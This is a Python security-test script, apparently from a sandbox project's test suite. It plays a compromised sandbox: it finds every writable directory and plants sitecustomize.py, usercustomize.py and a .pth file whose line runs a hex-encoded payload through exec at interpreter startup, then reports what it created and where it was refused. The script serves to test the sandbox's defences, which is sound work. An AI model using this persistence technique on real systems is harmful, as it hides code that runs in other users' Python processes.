"""A compromised sandbox planting start-up code: `python -m tests.security.planter SPEC_JSON`.

Run as the sandbox's uid. It lists the directories that uid may write (a walk of the file
system, or the candidates the spec names), then, when the spec asks for it, takes on the
sandbox's own policy (as `tests.security.attack` does), and plants the payload in each
directory it can still write: `sitecustomize.py`, `usercustomize.py` and a `.pth` file, in
the directory itself and in the user site beneath it (`.local/lib/pythonX.Y/site-packages`,
where Python looks when HOME is that directory). Prints one JSON map: what it created (for
the test to remove) and, per directory, why planting was refused.
"""

from __future__ import annotations

import errno
import json
import os
import sys
from pathlib import Path
from typing import Any

from protocol.runtime import RuntimeLayout
from sandbox.selfsandbox import apply, sandbox_policy

NAMES = ("sitecustomize.py", "usercustomize.py", "zz_sealgate_drill.pth")
USER_SITE = Path(".local", "lib", f"python{sys.version_info[0]}.{sys.version_info[1]}")
#: Never walked: kernel views, and devices but the shared-memory mounts.
SKIP = ("/proc", "/sys", "/dev")
ALSO = ("/dev/shm", "/dev/mqueue")


def writable_dirs(roots: list[str], exclude: list[str]) -> list[str]:
    """Every directory beneath `roots` this uid may create files in."""
    found: list[str] = []
    for root in roots:
        for top, dirs, _ in os.walk(root, onerror=lambda _: None):
            dirs[:] = [
                d
                for d in dirs
                if not os.path.islink(os.path.join(top, d))
                and not _skipped(os.path.join(top, d), exclude)
            ]
            if os.access(top, os.W_OK | os.X_OK):
                found.append(top)
    return found


def _skipped(path: str, exclude: list[str]) -> bool:
    if path == "/dev":
        return False  # walked for its shared-memory mounts only
    if any(path == s or path.startswith(s + "/") for s in SKIP) and not any(
        path == a or path.startswith(a + "/") for a in ALSO
    ):
        return True
    return any(path == e or path.startswith(e + "/") for e in exclude)


def plant(directory: str, payload: str, created: list[str]) -> str:
    """Plant in `directory` and in its user site; "ok" or the first refusal's errno."""
    pth = f"import os; exec(bytes.fromhex({payload.encode().hex()!r}).decode())\n"
    try:
        for target in (Path(directory), Path(directory) / USER_SITE / "site-packages"):
            for part in reversed([target, *target.parents]):
                if len(part.parts) > len(Path(directory).parts) and not part.exists():
                    part.mkdir()
                    created.append(str(part))
            for name in NAMES:
                path = target / name
                if path.exists():
                    continue
                path.write_text(pth if name.endswith(".pth") else payload)
                created.append(str(path))
    except OSError as exc:
        return errno.errorcode.get(exc.errno or 0, str(exc.errno))
    return "ok"


def main(spec: dict[str, Any]) -> dict[str, Any]:
    if spec.get("walk"):
        candidates = writable_dirs(["/"], spec.get("exclude", []))
    else:
        candidates = [d for d in spec["candidates"] if os.path.isdir(d)]
    applied = ""
    if spec.get("policy"):
        layout = RuntimeLayout.from_environ(os.environ)
        applied = apply(sandbox_policy(layout, Path(os.environ["HUB_CONFIG"]))).describe()
    created: list[str] = []
    outcomes = {d: plant(d, spec["payload"], created) for d in candidates}
    return {"applied": applied, "created": created, "outcomes": outcomes}


if __name__ == "__main__":
    print(json.dumps(main(json.loads(sys.argv[1]))))
